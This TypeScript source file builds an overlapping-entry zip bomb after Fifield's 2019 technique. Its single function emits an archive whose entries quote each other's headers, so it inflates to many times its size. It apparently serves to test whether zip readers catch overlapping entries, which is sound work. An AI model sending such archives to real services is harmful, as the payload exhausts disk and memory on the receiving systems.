import { crc32, deflateRawSync } from 'node:zlib';
import { u16, u32 } from './zip-writer.ts';

const MiB = 2 ** 20;

/** A header that is quoted, as a stored block of deflate. */
function quote(header: Buffer): Buffer {
  return Buffer.concat([Buffer.of(0), u16(header.length, 0xffff - header.length), header]);
}

/**
 * A zip in which every entry quotes the local headers of those behind it and ends in the same deflated MiB: sound files
 * for every reader that does not look where they lie (D. Fifield, "A better zip bomb", 2019).
 */
export function quotedBomb(names: readonly string[]): Buffer {
  let content: Buffer = Buffer.alloc(MiB);
  let packed: Buffer = deflateRawSync(content);
  const entries: { name: string; numbers: Buffer; header: Buffer }[] = [];
  for (const name of names.toReversed()) {
    const numbers = Buffer.concat([
      u16(20, 0, 8, 0, 0x21),
      u32(crc32(content), packed.length, content.length),
      u16(name.length, 0),
    ]);
    const header = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), numbers, Buffer.from(name)]);
    entries.unshift({ name, numbers, header });
    content = Buffer.concat([header, content]);
    packed = Buffer.concat([quote(header), packed]);
  }
  // The first header is quoted by nobody.
  const body = packed.subarray(5);
  let offset = 0;
  const directory = entries.map(({ name, numbers, header }) => {
    const entry = Buffer.concat([
      Buffer.from('PK\x01\x02\x14\x03', 'latin1'),
      numbers,
      u16(0, 0, 0),
      u32(0, offset),
      Buffer.from(name),
    ]);
    offset += header.length + 5;
    return entry;
  });
  const length = directory.reduce((sum, entry) => sum + entry.length, 0);
  return Buffer.concat([
    body,
    ...directory,
    Buffer.from('PK\x05\x06', 'latin1'),
    u16(0, 0, names.length, names.length),
    u32(length, body.length),
    u16(0),
  ]);
}
